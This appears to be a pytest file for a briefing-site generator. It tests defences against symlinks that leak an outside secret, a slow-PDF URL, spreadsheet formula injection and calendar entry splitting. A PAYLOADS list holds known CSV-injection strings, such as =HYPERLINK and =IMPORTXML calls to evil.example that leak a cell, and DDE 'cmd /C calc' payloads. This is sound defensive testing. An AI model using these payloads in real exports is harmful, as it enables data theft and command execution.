"""Issue 13 end to end: files that reach outside the project, text that spoofs readers, formulas for
spreadsheets and a URL that once kept `briefing pdf` busy for ten minutes, each tried on a real project.

The hostile files themselves are in tests/cases/ (symlinks/about.txt, hostile-text/about.txt and the
builds-clean corpus hostile/); these tests check what reaches the site, the PDF and the data files.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import icalendar
import pytest

from generator.cli import main
from generator.exports import ical

SECRET = "BRIEFING_TEST_SECRET=hunter2-never-published"


def write_secret(tmp_path: Path) -> Path:
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(f"title: {SECRET}\n# {SECRET}\n", encoding="utf-8")
    return secret


def published_bytes(project: Path) -> bytes:
    site = project / "site"
    return b"".join(p.read_bytes() for p in site.rglob("*") if p.is_file()) if site.is_dir() else b""


def _link(project: Path, where: str, secret: Path) -> None:
    path = project / where
    path.parent.mkdir(parents=True, exist_ok=True)
    if where.endswith("/2024/12"):
        folder = secret.parent / "events"
        folder.mkdir(exist_ok=True)
        (folder / "stolen.yaml").write_text(secret.read_text(encoding="utf-8"), encoding="utf-8")
        path.symlink_to(folder, target_is_directory=True)
    else:
        path.symlink_to(secret)


@pytest.mark.parametrize(
    "where",
    [
        "content/briefings/2024-11-03.md",  # a lede: once printed on the day page and into the feeds
        "content/events/2024/11/passwd.yaml",  # an event file
        "content/pages/leak.png",  # a page asset: once copied into site/ byte for byte
        "content/pages/leak.md",  # a hand-written page
        "content/events/2024/12",  # a linked folder: once skipped without a word
        "templates/pages/day.html.j2",  # a template override
    ],
)
def test_a_link_out_of_the_project_stops_check_and_build_and_publishes_nothing(case, tmp_path, capsys, where):
    project = case("site")
    secret = write_secret(tmp_path)
    _link(project, where, secret)
    config = str(project / "mkdocs.yml")
    assert main(["check", "-f", config]) == 1
    out = capsys.readouterr().out
    assert f"{where}:1:1: is a symbolic link; " in out
    assert SECRET not in out
    assert main(["build", "--no-pdf", "-f", config]) == 1
    captured = capsys.readouterr()
    assert SECRET not in captured.out + captured.err
    assert SECRET.encode() not in published_bytes(project)
    assert not (project / "site" / "index.html").exists(), "the build must not run"


def test_a_hard_link_to_a_file_outside_is_refused(case, tmp_path, capsys):
    project = case("site")
    secret = write_secret(tmp_path)
    os.link(secret, project / "content/briefings/2024-11-03.md")
    assert main(["check", "-f", str(project / "mkdocs.yml")]) == 1
    out = capsys.readouterr().out
    assert "content/briefings/2024-11-03.md:1:1: has 2 hard links: " in out
    assert SECRET not in out


def test_a_theme_folder_outside_the_project_is_refused(case, capsys):
    project = case("site")
    config = project / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8").replace("  name: material\n", "  name: material\n  custom_dir: ../../\n")
    )
    assert main(["check", "-f", str(config)]) == 1
    assert ":1:1: is outside the project folder" in capsys.readouterr().out


# --- the PDF step: no input check accepts can keep it busy ------------------------------------------------


def _accepted(project: Path, length: int) -> bool:
    source = project / "content/sources/wire.yaml"
    text = source.read_text(encoding="utf-8")
    url = "https://example.org/" + "x" * (length - len("https://example.org/"))
    source.write_text(
        "\n".join(line for line in text.splitlines() if not line.startswith("url:")) + f"\nurl: {url}\n",
        encoding="utf-8",
    )
    done = subprocess.run(
        [sys.executable, "-m", "generator.cli", "check", "-f", str(project / "mkdocs.yml")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    return done.returncode == 0


def _worst_allowed(project: Path, url_length: int) -> None:
    """Every URL, the title and the quotes of the lead event at their longest, each one word (the slowest)."""
    url = "https://example.org/" + "x" * (url_length - len("https://example.org/"))
    for source in (project / "content/sources").glob("*.yaml"):
        lines = [line for line in source.read_text(encoding="utf-8").splitlines() if not line.startswith("url:")]
        # Both URLs when the file stays within the 256 KiB every content file is allowed.
        urls = [f"url: {url}", f"archive_url: {url}"] if url_length <= 100_000 else [f"url: {url}"]
        source.write_text("\n".join([*lines, *urls]) + "\n", encoding="utf-8")
    event = project / "content/events/2024/11/drones-over-kyiv.yaml"
    text = event.read_text(encoding="utf-8")
    text = text.replace('title: Drones over Kyiv <overnight> & "second wave"', "title: " + "W" * 140)
    text = text.replace('quote: "drones over the capital"', "quote: " + "q" * 300)
    text = text.replace("url: https://wire.example.org/live/2024-11-05#post-2", f"url: {url}")
    event.write_text(text, encoding="utf-8")


def test_the_longest_url_check_accepts_is_2048_characters(case):
    project = case("site")
    assert _accepted(project, 2_048)
    assert not _accepted(project, 2_049)
    assert not _accepted(project, 200_000)


def test_the_worst_input_check_accepts_makes_a_pdf_in_seconds(case):
    # 200,000 characters once passed `check` and then took more than ten minutes (word-break: break-all in
    # the print CSS). The longest URL `check` accepts, in every URL field, with the longest title and quote.
    project = case("site")
    longest = max(length for length in (2_048, 200_000) if _accepted(project, length))
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("enabled: false", "enabled: true"))
    _worst_allowed(project, longest)
    assert (
        subprocess.run(
            [sys.executable, "-m", "generator.cli", "check", "-f", str(config)], capture_output=True, timeout=120
        ).returncode
        == 0
    ), "the input must be allowed"
    started = time.perf_counter()
    try:
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "generator.cli",
                "pdf",
                "2024-11-05",
                "-f",
                str(config),
                "-o",
                str(project / "b.pdf"),
            ],
            capture_output=True,
            text=True,
            timeout=120,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"a brief with {longest:,}-character URLs took more than 120 s")
    seconds = time.perf_counter() - started
    assert done.returncode == 0, done.stderr
    # About 3 s on a quiet 2-core machine; the margin is for a loaded CI machine, far below the old minutes.
    assert seconds < 60, f"the PDF took {seconds:.1f} s"
    text = subprocess.run(["pdftotext", str(project / "b.pdf"), "-"], capture_output=True, text=True).stdout
    assert "https://example.org/xxxx" in text.replace("\u200b", "")


def test_the_print_css_never_breaks_words_at_every_character():
    css = (Path(__file__).resolve().parents[2] / "templates/pdf/print.css").read_text(encoding="utf-8")
    assert "break-all" not in re.sub(r"/\*.*?\*/", "", css, flags=re.DOTALL)


# --- spreadsheets: every cell of every CSV ---------------------------------------------------------------

# Known payloads (OWASP "CSV Injection" and the public cheat sheets), with the whitespace that hides them.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    ' =HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  \t @SUM(1)",
    "\u00a0=1+1",
    "\n=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"!A0")',
    "\uff1d1+1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_known_payload_becomes_text(payload):
    from generator.exports.opendata import spreadsheet_text

    cell = spreadsheet_text(payload)
    assert cell.startswith("'") and cell[1:] == payload


@pytest.mark.parametrize("text", ["Kyiv", "2024-11-05", "A -2 dip", "e-mail: desk@example.org", "'quoted'"])
def test_ordinary_text_is_unchanged(text):
    from generator.exports.opendata import spreadsheet_text

    assert spreadsheet_text(text) == text


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


def test_every_csv_cell_of_the_hostile_corpus_is_text_for_a_spreadsheet(case, capsysbinary):
    project = case("hostile")
    cells = []
    for fmt in ("csv", "actors-csv"):
        assert main(["export", fmt, "-f", str(project / "mkdocs.yml")]) == 0
        cells += _csv_cells(capsysbinary.readouterr().out)
    # A negative number (a longitude west of Greenwich) is a number to a spreadsheet, and stays one.
    formulas = [
        c
        for c in cells
        if (c.lstrip().startswith(FORMULA) or c.startswith(FORMULA)) and not re.fullmatch(r"-\d+(\.\d+)?", c)
    ]
    assert formulas == [], formulas
    guarded = [c for c in cells if c.startswith("'")]
    assert '\' =HYPERLINK("http://evil.example/?leak="&A1,"click")' in guarded
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in guarded
    assert any(c.startswith("'=WEBSERVICE(") for c in guarded)
    assert "'+1+cmd|' /C calc'!A0" in guarded  # a place name
    assert "'\uff1d1+1 written with a full-width equals sign" in guarded


# --- calendars --------------------------------------------------------------------------------------------


def test_line_and_paragraph_separators_cannot_split_a_calendar_entry():
    # Refused in content; whatever reaches the calendar writer is an escaped line break, not a raw one.
    line = "SUMMARY:" + ical.escape_text("Kyiv\u2028END:VEVENT\u2029BEGIN:VEVENT")
    assert "\u2028" not in line and "\u2029" not in line
    assert line == "SUMMARY:Kyiv\\nEND:VEVENT\\nBEGIN:VEVENT"


def test_the_calendar_of_the_corpus_has_one_entry_per_event_and_no_separator(case, capsysbinary):
    project = case("hostile")
    assert main(["export", "ics", "-f", str(project / "mkdocs.yml")]) == 0
    data = capsysbinary.readouterr().out
    text = data.decode("utf-8")
    assert not any(c in text for c in "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    events = icalendar.Calendar.from_ical(data).walk("VEVENT")
    assert len(events) == text.count("BEGIN:VEVENT") == text.count("END:VEVENT")
